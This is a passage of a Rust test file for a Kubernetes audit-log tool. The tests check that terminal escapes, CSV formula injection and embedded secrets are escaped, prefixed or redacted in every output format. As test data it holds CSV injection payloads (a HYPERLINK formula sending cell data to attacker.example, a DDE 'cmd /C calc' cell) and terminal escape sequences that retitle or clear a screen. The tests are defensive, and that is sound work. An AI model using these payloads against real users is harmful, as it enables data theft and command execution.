        r.stdout_str()
    );
}

/// A line longer than the stream cap (256 MiB) on stdin is one record, malformed, and the
/// counts add up (issue 16: `records 2 = 2 events + 0 skipped + 1 malformed (in 3 lines)`).
#[test]
fn a_line_over_the_stream_cap_is_one_malformed_record() {
    use std::io::Write as _;
    let mut child = kaudit_std(&["summary", "-o", "json"]).spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let writer = std::thread::spawn(move || {
        stdin
            .write_all(format!("{}\n", event(1)).as_bytes())
            .unwrap();
        stdin.write_all(b"{\"a\":\"").unwrap();
        let block = vec![b'x'; 1 << 20];
        for _ in 0..300 {
            stdin.write_all(&block).unwrap();
        }
        stdin
            .write_all(format!("\"}}\n{}\n", event(2)).as_bytes())
            .unwrap();
    });
    let r = wait_output(child, Duration::from_secs(600)).expect_code(0);
    writer.join().unwrap();
    let d = doc(&r);
    adds_up(&d);
    assert_eq!(
        (
            n(&d, "lines"),
            n(&d, "records"),
            n(&d, "events"),
            n(&d, "malformed")
        ),
        (3, 3, 2, 1),
        "{d}"
    );
    // (a JSON value: cut as it is read, and not held once it is too long to be a record)
    assert!(
        r.stderr
            .contains("a JSON value longer than 256 MiB that is not a batch of records"),
        "{}",
        r.stderr
    );
}

/// An over-long line that is not JSON and ends the stream without a newline is one malformed
/// record, and the scan ends: it used to wait forever for the newline that would end the line.
#[test]
fn an_over_long_last_line_without_newline_ends_the_scan() {
    use std::io::Write as _;
    let mut child = kaudit_std(&["summary", "-o", "json"]).spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let writer = std::thread::spawn(move || {
        stdin
            .write_all(format!("{}\n", event(1)).as_bytes())
            .unwrap();
        let block = vec![b'x'; 1 << 20];
        for _ in 0..300 {
            stdin.write_all(&block).unwrap();
        }
    });
    let r = wait_output(child, Duration::from_secs(600)).expect_code(0);
    writer.join().unwrap();
    let d = doc(&r);
    adds_up(&d);
    assert_eq!(
        (
            n(&d, "lines"),
            n(&d, "records"),
            n(&d, "events"),
            n(&d, "malformed")
        ),
        (2, 2, 1, 1),
        "{d}"
    );
    assert!(
        r.stderr.contains("line longer than 256 MiB"),
        "{}",
        r.stderr
    );
}

// ------------------------------------------- terminal escapes and formulas in every output format

/// What a terminal obeys or hides: OSC (window title), BEL, CSI as ESC [ and as the C1 byte
/// U+009B, DEL, a bidi override and isolate, zero-width characters, a soft hyphen and U+2028.
/// A log line holds them as serde_json writes them: the C0 ones escaped (`\u001b`), the others
/// raw (valid JSON).
const HIDDEN: &str =
    "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}2J\u{7f}\u{202e}\u{2066}\u{200b}\u{feff}\u{ad}\u{2028}x";
/// `HIDDEN` as tables and CSV show it.
const HIDDEN_SHOWN: &str =
    "\\e]0;pwned\\x07\\e[2J\\x9b2J\\x7f\\u{202e}\\u{2066}\\u{200b}\\u{feff}\\xad\\u{2028}x";
/// Cells a spreadsheet would run, each followed by `HIDDEN` in the log (from
/// ../shared/repro/csv-formula.log and OWASP's CSV injection page).
const F_USER: &str = "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"click me\")";
const F_AGENT: &str = "@SUM(1+1)";
const F_NAME: &str = "+cmd|' /C calc'!A0";
const F_VALUE: &str = "-2+3";
/// Formulas after blanks (spaces, a no-break space): spreadsheets skip them and run the rest.
const F_SPACED_USER: &str = "  =1+1";
const F_SPACED_AGENT: &str = "\u{a0}@SUM(1+1)";

/// A configmap build/app created (RequestResponse, a body value that is a formula) and updated,
/// then a secret read (detect's KA031), all by a user whose name is a formula with `HIDDEN`,
/// with a user agent and status message that carry both; and a request by `-5` (a name a
/// spreadsheet reads as a number) that completed a second before it was received (a negative
/// latency); and a request by a user and with a user agent whose formulas follow blanks.
fn formula_log() -> String {
    let at = |v: &mut Value, sec: u64| {
        let t = format!("2026-11-21T15:00:{sec:02}.000000Z");
        v["requestReceivedTimestamp"] = json!(t);
        v["stageTimestamp"] = json!(t);
    };
    let common = |v: &mut Value| {
        v["level"] = json!("RequestResponse");
        v["user"]["username"] = json!(format!("{F_USER}{HIDDEN}"));
        v["userAgent"] = json!(format!("{F_AGENT}{HIDDEN}"));
    };
    let body = |value: &str| {
        json!({"kind": "ConfigMap", "apiVersion": "v1",
               "metadata": {"name": "app", "namespace": "build"},
               "data": {format!("k{HIDDEN}"): value}})
    };
    [
        event_with(1, |v| {
            common(v);
            at(v, 1);
            v["verb"] = json!("create");
            v["requestURI"] = json!("/api/v1/namespaces/build/configmaps");
            v["requestObject"] = body(&format!("{F_VALUE}{HIDDEN}"));
            v["responseObject"] = body(&format!("{F_VALUE}{HIDDEN}"));
            v["responseStatus"] = json!({"metadata": {}, "code": 201});
        }),
        event_with(2, |v| {
            common(v);
            at(v, 2);
            v["verb"] = json!("update");
            v["requestObject"] = body(&format!("{F_NAME}{HIDDEN}"));
            v["responseObject"] = body(&format!("{F_NAME}{HIDDEN}"));
            v["responseStatus"] =
                json!({"metadata": {}, "message": format!("{F_AGENT}{HIDDEN}"), "code": 200});
        }),
        event_with(3, |v| {
            common(v);
            at(v, 3);
            let name = format!("{F_NAME}{HIDDEN}");
            v["objectRef"] = json!({"resource": "secrets", "namespace": "build", "name": name, "apiVersion": "v1"});
            v["requestURI"] = json!(format!("/api/v1/namespaces/build/secrets/{name}"));
        }),
        event_with(4, |v| {
            at(v, 5);
            v["user"]["username"] = json!("-5");
            v["stageTimestamp"] = json!("2026-11-21T15:00:04.000000Z");
        }),
        event_with(5, |v| {
            at(v, 6);
            v["user"]["username"] = json!(F_SPACED_USER);
            v["userAgent"] = json!(F_SPACED_AGENT);
        }),
    ]
    .join("\n")
        + "\n"
}

/// Nothing a terminal obeys or hides, whatever the format: no control character but the line
/// feed, no DEL, no C1, no bidi control, no zero-width or invisible character, no U+2028/9.
/// (Listed here, not taken from kaudit, so the test checks kaudit's list.)
#[track_caller]
fn shows_nothing_hidden(what: &str, text: &str) {
    let bad = |c: char| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}'
                | '\u{202a}'..='\u{202e}' | '\u{2028}' | '\u{2029}' | '\u{2060}'..='\u{2069}'
                | '\u{feff}')
    };
    if let Some((i, c)) = text.char_indices().find(|&(_, c)| bad(c)) {
        panic!(
            "{what}: {c:?} reached the output at byte {i}:\n{}",
            text.escape_debug()
        );
    }
}

/// Every string in a JSON value.
fn strings_in(v: &Value, out: &mut Vec<String>) {
    match v {
        Value::String(s) => out.push(s.clone()),
        Value::Array(a) => a.iter().for_each(|x| strings_in(x, out)),
        Value::Object(o) => o.iter().for_each(|(k, x)| {
            out.push(k.clone());
            strings_in(x, out)
        }),
        _ => {}
    }
}

/// The commands and output formats checked, each with the arguments it needs, and whether it
/// prints the user (`when` and `latency` print counts and times only: checked for what must
/// not be there).
fn formula_runs() -> Vec<(Vec<&'static str>, bool)> {
    let commands: &[(&[&str], bool)] = &[
        (&["events"], true),
        (&["events", "--per-stage"], true),
        (&["who"], true),
        (&["what"], true),
        (&["where"], true),
        (&["where", "--by", "user-agent"], true),
        (&["top", "--by", "user,user-agent,name"], true),
        (&["summary"], true),
        (&["detect"], true),
        (&["history", "-n", "build", "cm/app"], true),
        (&["timeline"], true),
        (&["when"], false),
        (&["latency"], false),
    ];
    let mut runs = Vec::new();
    for (cmd, user) in commands {
        for format in ["table", "wide", "json", "ndjson", "csv"] {
            let mut args = cmd.to_vec();
            args.extend(["-o", format]);
            runs.push((args, *user));
        }
    }
    runs
}

/// Issue 16, point 13: JSON and NDJSON of every command escape what a terminal would obey or
/// hide (C1 controls such as U+009B, DEL, bidi overrides, zero-width characters, U+2028), as
/// `\u009b`, and still parse to the exact strings of the log; CSV shows them as tables do
/// (`\e`, `\x9b`, `\u{202e}`). Before, `-o csv` printed raw ESC, OSC, CSI and BEL, and JSON the
/// rest. ../shared/repro/terminal-escapes.log is this class of input.
#[test]
fn terminal_escapes_in_every_output_format_are_escaped_or_shown() {
    let dir = tmp();
    let f = put(dir.path(), "formula.log", formula_log());
    let policy = put(
        dir.path(),
        "policy.yaml",
        "apiVersion: audit.k8s.io/v1\nkind: Policy\nrules:\n- level: Metadata\n",
    );
    let mut runs = formula_runs();
    for format in ["table", "wide", "json"] {
        runs.push((vec!["policy", "simulate", &policy, "-o", format], true));
    }
    let user = format!("{F_USER}{HIDDEN}");
    for (args, shows_user) in runs {
        let mut all = args.clone();
        all.push(&f);
        let r = go(&all);
        let what = format!("{args:?}");
        assert!(r.code == 0, "{what} exited {}: {}", r.code, r.stderr);
        let text = r.stdout_str();
        shows_nothing_hidden(&what, text);
        shows_nothing_hidden(&format!("{what} stderr"), &r.stderr);
        let format = args[args.len() - 1];
        if !shows_user {
            continue;
        }
        match format {
            "json" | "ndjson" => {
                let docs: Vec<Value> = if format == "json" {
                    vec![serde_json::from_str(text).unwrap_or_else(|e| panic!("{what}: {e}"))]
                } else {
                    crate::util::ndjson(&r.stdout)
                };
                let mut strings = Vec::new();
                docs.iter().for_each(|d| strings_in(d, &mut strings));
                // lossless: the exact user name is in the output (history and detect name it
                // in a field of their own; policy simulate as a key)
                assert!(
                    strings.iter().any(|s| s.contains(&user)),
                    "{what}: the exact user name is in the JSON:\n{text}"
                );
                assert!(
                    text.contains("\\u009b2J\\u007f\\u202e\\u2066\\u200b\\ufeff\\u00ad\\u2028")
                );
            }
            _ => assert!(
                text.contains(HIDDEN_SHOWN) || text.contains("\\e]0;pwned\\x07"),
                "{what}: the escapes are shown:\n{text}"
            ),
        }
    }
    // ../shared/repro/terminal-escapes.log, whose strings are JSON escapes in the log: its
    // ResponseComplete line, without its annotations
    let repro = put(
        dir.path(),
        "terminal-escapes.log",
        r#"{"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": "00000000-0000-0000-0000-000000000001", "stage": "ResponseComplete", "requestURI": "/api/v1/namespaces/default/configmaps/app", "verb": "get", "user": {"username": "mallory\u001b]0;PWNED-TITLE\u0007\u001b[2J\u001b[31mRED\u009b2J\u202eevil", "groups": ["system:authenticated"]}, "sourceIPs": ["10.0.0.1"], "userAgent": "mallory\u001b]0;PWNED-TITLE\u0007\u001b[2J\u001b[31mRED\u009b2J\u202eevil", "objectRef": {"resource": "configmaps", "namespace": "default", "name": "app", "apiVersion": "v1"}, "requestReceivedTimestamp": "2026-11-21T14:58:09.989000Z", "stageTimestamp": "2026-11-21T14:58:09.989000Z", "responseStatus": {"metadata": {}, "code": 200}}
"#,
    );
    let csv = go(&["events", "-o", "csv", &repro]).expect_code(0);
    shows_nothing_hidden("repro csv", csv.stdout_str());
    let (header, rows) = crate::util::csv(&csv.stdout);
    let col = header.iter().position(|h| h == "user").unwrap();
    assert_eq!(
        rows[0][col],
        "mallory\\e]0;PWNED-TITLE\\x07\\e[2J\\e[31mRED\\x9b2J\\u{202e}evil"
    );
    let json = go(&["events", "-o", "ndjson", &repro]).expect_code(0);
    assert!(json.stdout_str().contains(
        r#""user":"mallory\u001b]0;PWNED-TITLE\u0007\u001b[2J\u001b[31mRED\u009b2J\u202eevil""#
    ));
}

/// Issue 16, point 14: no CSV cell of any command starts with `=`, `+`, `-`, `@`, a tab or a
/// carriage return (a spreadsheet would run it as a formula), nor has one of the first four as
/// its first non-blank character (` =1+1`: spreadsheets skip the blanks), unless it is a
/// number: those cells get a leading `'`, as OWASP advises, and numbers (a negative latency, a
/// user named `-5`) and kaudit's `-` for an absent value stay as they are. Before, every CSV
/// mode wrote them unprefixed, and then those after blanks.
/// ../shared/repro/csv-formula.log is this class of input.
#[test]
fn csv_cells_never_start_a_formula() {
    let dir = tmp();
    let f = put(dir.path(), "formula.log", formula_log());
    let number = |s: &str| {
        let s = s.strip_prefix('-').unwrap_or(s);
        let (int, frac) = s.split_once('.').unwrap_or((s, "0"));
        let digits = |d: &str| !d.is_empty() && d.bytes().all(|b| b.is_ascii_digit());
        digits(int) && digits(frac)
    };
    let csv_runs = formula_runs()
        .into_iter()
        .filter(|(a, _)| a.ends_with(&["csv"]));
    for (args, shows_user) in csv_runs {
        for headers in [true, false] {
            let mut all = args.clone();
            if !headers {
                all.push("--no-headers");
            }
            all.push(&f);
            let r = go(&all);
            let what = format!("{all:?}");
            assert!(r.code == 0, "{what} exited {}: {}", r.code, r.stderr);
            let mut rdr = ::csv::ReaderBuilder::new()
                .has_headers(false)
                .flexible(true)
                .from_reader(&r.stdout[..]);
            let mut quoted = 0;
            for rec in rdr.records() {
                for cell in rec.unwrap_or_else(|e| panic!("{what}: {e}")).iter() {
                    assert!(
                        !cell.starts_with(['\t', '\r']),
                        "{what}: a cell starts a formula: {cell:?}"
                    );
                    let first = cell.trim_start_matches(char::is_whitespace);
                    assert!(
                        !first.starts_with(['=', '+', '@'])
                            && (!first.starts_with('-') || number(first) || first == "-"),
                        "{what}: a cell starts a formula: {cell:?}"
                    );
                    quoted += usize::from(cell.starts_with("'=HYPERLINK("));
                }
            }
            assert!(
                quoted > 0 || !shows_user,
                "{what}: the user is shown, quoted:\n{}",
                r.stdout_str()
            );
        }
    }
    // the cells themselves, in events
    let r = go(&["events", "-o", "csv", &f]).expect_code(0);
    let (header, rows) = crate::util::csv(&r.stdout);
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let secret = rows
        .iter()
        .find(|r| r[col("resource")] == "secrets")
        .unwrap();
    assert_eq!(secret[col("user")], format!("'{F_USER}{HIDDEN_SHOWN}"));
    assert_eq!(
        secret[col("userAgent")],
        format!("'{F_AGENT}{HIDDEN_SHOWN}")
    );
    assert_eq!(secret[col("name")], format!("'{F_NAME}{HIDDEN_SHOWN}"));
    let skewed = rows.iter().find(|r| r[col("user")] == "-5").unwrap();
    assert_eq!(skewed[col("latencyMs")], "-1000.0");
    let spaced = rows
        .iter()
        .find(|r| r[col("user")].contains("=1+1"))
        .unwrap();
    assert_eq!(spaced[col("user")], format!("'{F_SPACED_USER}"));
    assert_eq!(spaced[col("userAgent")], format!("'{F_SPACED_AGENT}"));
    // history: the body's old and new values are JSON text (a string starts with `"`), escaped
    // as JSON output is, so they read back exactly
    let r = go(&["history", "-n", "build", "cm/app", "-o", "csv", &f]).expect_code(0);
    let (header, rows) = crate::util::csv(&r.stdout);
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let created = &rows[0][col("new")];
    assert!(
        created.starts_with(&format!("\"{F_VALUE}\\u001b]0;pwned")),
        "{created}"
    );
    assert_eq!(
        serde_json::from_str::<Value>(created).unwrap(),
        json!(format!("{F_VALUE}{HIDDEN}"))
    );
    assert_eq!(
        serde_json::from_str::<Value>(&rows[1][col("new")]).unwrap(),
        json!(format!("{F_NAME}{HIDDEN}"))
    );
}

/// Run kaudit with its stdout on a pseudo-terminal (raw mode: bytes pass as written), stdin and
/// stderr piped; what it wrote to the terminal, and the run.
#[cfg(target_os = "linux")]
fn on_a_terminal(args: &[&str]) -> (Vec<u8>, Run) {
    use std::io::Read;
    use std::os::fd::{FromRawFd, OwnedFd};
    // SAFETY: plain libc calls on descriptors this function opens; each is checked, and each is
    // owned by a File or an OwnedFd right after.
    let (master, slave) = unsafe {
        let master = libc::posix_openpt(libc::O_RDWR | libc::O_NOCTTY);
        assert!(master >= 0, "posix_openpt");
        let master = File::from_raw_fd(master);
        use std::os::fd::AsRawFd;
        let m = master.as_raw_fd();
        assert_eq!(libc::grantpt(m), 0, "grantpt");
        assert_eq!(libc::unlockpt(m), 0, "unlockpt");
        let mut name = [0 as libc::c_char; 128];
        assert_eq!(libc::ptsname_r(m, name.as_mut_ptr(), name.len()), 0);
        let slave = libc::open(name.as_ptr(), libc::O_RDWR | libc::O_NOCTTY);
        assert!(slave >= 0, "open the terminal's other end");
        let mut t: libc::termios = std::mem::zeroed();
        assert_eq!(libc::tcgetattr(slave, &mut t), 0);
        libc::cfmakeraw(&mut t);
        assert_eq!(libc::tcsetattr(slave, libc::TCSANOW, &t), 0);
        (master, OwnedFd::from_raw_fd(slave))
    };
    let mut cmd = kaudit_std(args);
    cmd.stdout(slave);
    let child = cmd.spawn().expect("kaudit runs");
    // the child holds the only other copy of the terminal: reading ends (EIO) when it exits
    drop(cmd);
    let reader = std::thread::spawn(move || {
        let mut master = master;
        let mut got = Vec::new();
        let mut buf = [0u8; 4096];
        loop {
            match master.read(&mut buf) {
                Ok(0) | Err(_) => break,
                Ok(n) => got.extend_from_slice(&buf[..n]),
            }
        }
        got
    });
    let run = wait_output(child, Duration::from_secs(60));
    (reader.join().unwrap(), run)
}

/// Issue 16, point 13: `events -o raw` writes the original lines byte for byte to a pipe or a
/// file; to a terminal, what the terminal would obey or hide (a C1 CSI, DEL, bidi overrides,
/// zero-width characters, U+2028, all valid raw in a JSON string) is written as JSON escapes,
/// so each line still parses to the same event. Before, they reached the terminal as they were.
#[cfg(target_os = "linux")]
#[test]
fn raw_lines_to_a_terminal_are_escaped_and_stay_the_same_json() {
    let dir = tmp();
    let log = formula_log();
    let f = put(dir.path(), "formula.log", &log);
    assert!(
        log.contains('\u{9b}') && log.contains('\u{202e}'),
        "the log holds them raw"
    );
    // to a pipe: the log itself (one line per request here)
    let piped = go(&["events", "-o", "raw", &f]).expect_code(0);
    assert_eq!(piped.stdout_str(), log, "raw to a pipe is byte-exact");
    let (shown, run) = on_a_terminal(&["events", "-o", "raw", &f]);
    let run = run.expect_code(0);
    let shown = String::from_utf8(shown).expect("UTF-8 on the terminal");
    shows_nothing_hidden("raw on a terminal", &shown);
    assert!(shown.contains("\\u009b2J\\u007f\\u202e\\u2066\\u200b\\ufeff\\u00ad\\u2028x"));
    let lines: Vec<&str> = shown.lines().collect();
    let want: Vec<&str> = log.lines().collect();
    assert_eq!(lines.len(), want.len(), "{shown}\n{}", run.stderr);
    for (got, want) in lines.iter().zip(&want) {
        assert_eq!(
            serde_json::from_str::<Value>(got).unwrap(),
            serde_json::from_str::<Value>(want).unwrap(),
            "the same event"
        );
    }
}

// ---------------------------------------------------------------- secrets and credentials
//
// Issue 16, point 12: every place a secret can sit in a body, each holding its own marker
// (`Q01LEAKQ`, ...), and every command and format that prints anything: no marker may be
// printed without --show-secrets, and `events -o raw --show-secrets` prints them all.

/// The marker of carrier `n`.
fn leak(n: u32) -> String {
    format!("Q{n:02}LEAKQ")
}

/// How many markers [`secrets_log`] holds.
const LEAKS: u32 = 47;

/// A Sentry DSN's key (32 hex digits, so no marker fits in it): a leak as the markers are.
const SENTRY_KEY: &str = "0123456789abcdef0123456789abcdef";

/// One RequestResponse ResponseComplete event (second `n` of 15:00) of `verb` on
/// `resource` `build/name` (no namespace for cluster-scoped `tokenreviews`).
fn carrier(n: u64, verb: &str, resource: &str, name: &str, f: impl FnOnce(&mut Value)) -> String {
    event_with(n * 1_000_000, |v| {
        v["level"] = json!("RequestResponse");
        v["verb"] = json!(verb);
        let (resource, sub) = resource.split_once('/').unwrap_or((resource, ""));
        v["objectRef"]["resource"] = json!(resource);
        v["objectRef"]["name"] = json!(name);
        if !sub.is_empty() {
            v["objectRef"]["subresource"] = json!(sub);
        }
        if resource == "tokenreviews" {
            v["objectRef"] = json!({"resource": resource, "apiGroup": "authentication.k8s.io", "apiVersion": "v1"});
        }
        if resource == "deployments" {
            v["objectRef"]["apiGroup"] = json!("apps");
        }
        v["requestURI"] = json!(format!("/api/v1/namespaces/build/{resource}/{name}"));
        v["responseStatus"] =
            json!({"metadata": {}, "code": if verb == "create" { 201 } else { 200 }});
        f(v);
    })
}

fn secret(name: &str, data: Value) -> Value {
    json!({"kind": "Secret", "apiVersion": "v1", "metadata": {"name": name, "namespace": "build"},
           "data": data, "type": "Opaque"})
}

/// A log with a secret in each place one can be (see the comments), 47 markers in all, and
/// [`SENTRY_KEY`].
fn secrets_log() -> String {
    let l = leak;
    let mut lines = vec![
        // 1-2: a Secret's data and stringData, in the request and the response
        carrier(1, "create", "secrets", "s1", |v| {
            let mut s = secret("s1", json!({"password": l(1)}));
            s["stringData"] = json!({"token": l(2)});
            v["requestObject"] = s.clone();
            v["responseObject"] = s;
        }),
        // 3: a SecretList's items (no kind of their own)
        carrier(2, "list", "secrets", "", |v| {
            v["responseObject"] = json!({"kind": "SecretList", "apiVersion": "v1", "metadata": {},
                "items": [{"metadata": {"name": "s1"}, "data": {"k": l(3)}}]});
        }),
        // 4: a TokenRequest's token
        carrier(3, "create", "serviceaccounts/token", "ci", |v| {
            v["requestObject"] = json!({"kind": "TokenRequest", "spec": {"audiences": ["api"]}});
            v["responseObject"] = json!({"kind": "TokenRequest", "spec": {"audiences": ["api"]},
                "status": {"token": l(4), "expirationTimestamp": "2026-11-21T16:00:00Z"}});
        }),
        // 5: a TokenReview's token
        carrier(4, "create", "tokenreviews", "", |v| {
            v["requestObject"] = json!({"kind": "TokenReview", "spec": {"token": l(5)}});
        }),
        // 6: a JSON patch of a Secret, and the Secret it made
        carrier(5, "patch", "secrets", "s1", |v| {
            v["requestObject"] = json!([{"op": "add", "path": "/data/x", "value": l(6)}]);
            v["responseObject"] = secret("s1", json!({"password": l(1), "x": l(6)}));
        }),
        // 7: a merge patch of a Secret
        carrier(6, "patch", "secrets", "s1", |v| {
            v["requestObject"] = json!({"stringData": {"y": l(7)}});
        }),
        // 8: `kubectl apply` of a Secret: its data again in the last-applied annotation
        carrier(7, "create", "secrets", "s2", |v| {
            let applied = secret("s2", json!({"p": l(8)})).to_string();
            let mut s = secret("s2", json!({"p": l(8)}));
            s["metadata"]["annotations"] =
                json!({"kubectl.kubernetes.io/last-applied-configuration": applied});
            v["requestObject"] = s.clone();
            v["responseObject"] = s;
        }),
        // 9: a body that is JSON text
        carrier(8, "create", "secrets", "s3", |v| {
            v["requestObject"] = json!(secret("s3", json!({"p": l(9)})).to_string());
        }),
        // 10: a data value of unexpected type
        carrier(9, "update", "secrets", "s1", |v| {
            v["requestObject"] = secret("s1", json!({"p": {"nested": l(10)}}));
        }),
        // 11: a Table whose rows carry the whole object (includeObject=Object)
        carrier(10, "list", "secrets", "", |v| {
            v["responseObject"] = json!({"kind": "Table", "apiVersion": "meta.k8s.io/v1",
                "columnDefinitions": [{"name": "Name", "type": "string"}],
                "rows": [{"cells": ["s1"], "object": secret("s1", json!({"p": l(11)}))}]});
        }),
        // 12-19: credentials held in a ConfigMap
        carrier(11, "create", "configmaps", "cm1", |v| {
            let cm = json!({"kind": "ConfigMap", "apiVersion": "v1",
            "metadata": {"name": "cm1", "namespace": "build",
                         "annotations": {"note": format!("Bearer {}", l(15))}},
            "data": {
                "kubeconfig": format!("apiVersion: v1\nusers:\n- name: ci\n  user:\n    token: {}\n", l(12)),
                "app.properties": format!("db.user=app\ndb.password={}\n", l(13)),
                "DATABASE_URL": format!("postgres://app:{}@db:5432/x", l(14)),
                "tls.pem": format!("-----BEGIN EC PRIVATE KEY-----\n{}\n-----END EC PRIVATE KEY-----\n", l(16)),
                "credentials": format!("[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = {}\n", l(17)),
                "oauth.json": json!({"client_id": "web", "client_secret": l(18)}).to_string(),
                "jwt": format!("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJjaSJ9.{}", l(19)),
            }});
            v["requestObject"] = cm.clone();
            v["responseObject"] = cm;
        }),
        // 20-24: a Deployment's container arguments and env, and its last-applied annotation
        carrier(12, "create", "deployments", "web", |v| {
            let container = json!({"name": "app", "image": "nginx",
                "args": [format!("--token={}", l(20)), "--password", l(21)],
                "env": [{"name": "DB_PASSWORD", "value": l(22)},
                        {"name": "API_URL", "value": format!("https://ci:{}@api.example.com", l(23))}]});
            let mut d = json!({"kind": "Deployment", "apiVersion": "apps/v1",
                "metadata": {"name": "web", "namespace": "build"},
                "spec": {"template": {"spec": {"containers": [container.clone()]}}}});
            let mut applied = d.clone();
            applied["spec"]["template"]["spec"]["containers"][0]["env"][0]["value"] = json!(l(24));
            d["metadata"]["annotations"] =
                json!({"kubectl.kubernetes.io/last-applied-configuration": applied.to_string()});
            v["requestObject"] = d.clone();
            v["responseObject"] = d;
        }),
        // 27: an Event whose message has a password in it
        carrier(14, "create", "events", "web.1", |v| {
            v["requestObject"] = json!({"kind": "Event", "apiVersion": "v1",
                "metadata": {"name": "web.1", "namespace": "build"},
                "reason": "Failed", "message": format!("login failed with password={}", l(27))});
        }),
        // 28: the List of a ConfigMap list, holding cm1 again with another credential
        carrier(15, "list", "configmaps", "", |v| {
            v["responseObject"] = json!({"kind": "ConfigMapList", "apiVersion": "v1", "metadata": {},
                "items": [{"metadata": {"name": "cm1"}, "data": {"props": format!("api_key={}", l(28))}}]});
        }),
        // 31: a Secret kept as JSON text in another object's annotation
        carrier(18, "create", "configmaps", "cm2", |v| {
            v["requestObject"] = json!({"kind": "ConfigMap", "apiVersion": "v1",
                "metadata": {"name": "cm2", "namespace": "build", "annotations":
                    {"backup.example.com/object": secret("s1", json!({"p": l(31)})).to_string()}},
                "data": {"a": "b"}});
        }),
        // 29-30: a custom resource with credential-named fields
        carrier(16, "create", "widgets", "w1", |v| {
            v["objectRef"]["apiGroup"] = json!("example.com");
            v["requestObject"] = json!({"kind": "Widget", "apiVersion": "example.com/v1",
                "metadata": {"name": "w1"},
                "spec": {"apiToken": l(29), "credentials": {"username": "ci", "password": l(30)}}});
        }),
        // 32-44: the review of issue 16 point 12: Azure connection strings and SAS tokens, the
        // `pass` family, XML, command lines, .netrc, .pgpass, webhook and API key shapes
        carrier(19, "create", "configmaps", "cm3", |v| {
            let cm = json!({"kind": "ConfigMap", "apiVersion": "v1",
            "metadata": {"name": "cm3", "namespace": "build"},
            "data": {
                "azure": format!("DefaultEndpointsProtocol=https;AccountName=acct;AccountKey={};EndpointSuffix=core.windows.net", l(32)),
                "sas": format!("https://acct.blob.core.windows.net/c/b.tgz?sv=2022-11-02&sp=r&sig={}", l(33)),
                "app.properties": format!("smtp.user=ci\npass={}\ndb_pass={}\n", l(34), l(35)),
                "env.sh": format!("export PGPASSWORD={}\nMYSQL_PWD={}\n", l(36), l(37)),
                "settings.xml": format!("<server><username>ci</username><password>{}</password></server>", l(38)),
                "backup.sh": format!("curl -u alice:{} https://x\nmysql -uroot -p{} app\nsshpass -p {} ssh -p 2222 ops@h\n", l(39), l(40), l(41)),
                "netrc": format!("machine h login alice password {}\n", l(42)),
                "pgpass.txt": format!("db:5432:app:alice:{}\n", l(43)),
                "sentry": format!("https://{SENTRY_KEY}@o1.ingest.sentry.io/1"),
                "slack": format!("https://hooks.slack.com/services/T0ABC/B0DEF/{}AbCdEfGh", l(44)),
                "openai": format!("sk-proj-{}AbCdEfGhIjKlMnOpQrStUvWxYz", l(45)),
            }});
            v["requestObject"] = cm.clone();
            v["responseObject"] = cm;
        }),
        // 46-47: a tool's credential flag in a container's command list (`-p 8080` of another
        // program stays)
        carrier(20, "create", "deployments", "tools", |v| {
            let d = json!({"kind": "Deployment", "apiVersion": "apps/v1",
                "metadata": {"name": "tools", "namespace": "build"},
                "spec": {"template": {"spec": {"containers": [
                    {"name": "db", "image": "mysql", "command": ["mysql", "-uroot", format!("-p{}", l(46)), "app"]},
                    {"name": "get", "image": "curl", "command": ["curl", "-u", format!("alice:{}", l(47)), "https://x"]},
                    {"name": "web", "image": "web", "args": ["-p", "8080", "-u", "1000:1000"]}]}}}});
            v["requestObject"] = d.clone();
            v["responseObject"] = d;
        }),
    ];
    // 25: a body key written with an escape (the same key to a JSON reader)
    lines.push(
        carrier(13, "create", "secrets", "s4", |_| {})
            .trim_end_matches('}')
            .to_string()
            + &format!(
                r#","request\u004fbject":{}}}"#,
                secret("s4", json!({"p": l(25)}))
            ),
    );
    // 26: a body nested deeper than any reader follows
    let deep = format!(
        "{}{{\"password\":\"{}\"}}{}",
        "[".repeat(300),
        l(26),
        "]".repeat(300)
    );
    lines.push(
        carrier(17, "create", "secrets", "s5", |_| {})
            .trim_end_matches('}')
            .to_string()
            + &format!(r#","requestObject":{deep}}}"#),
    );
    lines.join("\n") + "\n"
}

/// Every command and output format, on `f`.
fn every_output(f: &str) -> Vec<Vec<String>> {
    let mut runs: Vec<Vec<&str>> = Vec::new();
    for fmt in ["table", "wide", "json", "ndjson", "csv", "raw"] {
        runs.push(vec!["events", "-o", fmt]);
    }
    for fmt in ["table", "wide", "json", "csv"] {
        runs.push(vec!["events", "--per-stage", "-o", fmt]);
        runs.push(vec!["timeline", "-o", fmt]);
        runs.push(vec!["detect", "-o", fmt]);
        for object in [
            "secret/s1",
            "secret/s2",
            "secret/s3",
            "secret/s4",
            "secret/s5",
            "cm/cm1",
            "cm/cm2",
            "cm/cm3",
            "deploy/web",
            "deploy/tools",
            "serviceaccounts/ci",
            "events/web.1",
            "widgets.example.com/w1",
        ] {
            runs.push(vec!["history", "-o", fmt, "-n", "build", object]);
        }
    }
    runs.push(vec!["history", "tokenreviews/x"]);
    runs.push(vec!["history", "-o", "ndjson", "-n", "build", "secret/s1"]);
    runs.push(vec!["timeline", "-o", "ndjson"]);
    runs.push(vec!["detect", "-o", "ndjson"]);
    for cmd in ["summary", "who", "what", "where", "when", "latency"] {
        runs.push(vec![cmd]);
        runs.push(vec![cmd, "-o", "json"]);
    }
    runs.push(vec!["top", "--by", "user,resource,name"]);
    runs.into_iter()
        .map(|mut r| {
            r.push(f);
            r.into_iter().map(String::from).collect()
        })
        .collect()
}

#[test]
fn secrets_and_credentials_reach_no_output() {
    let dir = tmp();
    let f = put(dir.path(), "secrets.log", secrets_log());
    let mut markers: Vec<String> = (1..=LEAKS).map(leak).collect();
    markers.push(SENTRY_KEY.to_string());
    for args in every_output(&f) {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let r = go(&args);
        assert!(
            r.code == 0 || r.code == 1,
            "{args:?}: exit {}\n{}",
            r.code,
            r.stderr
        );
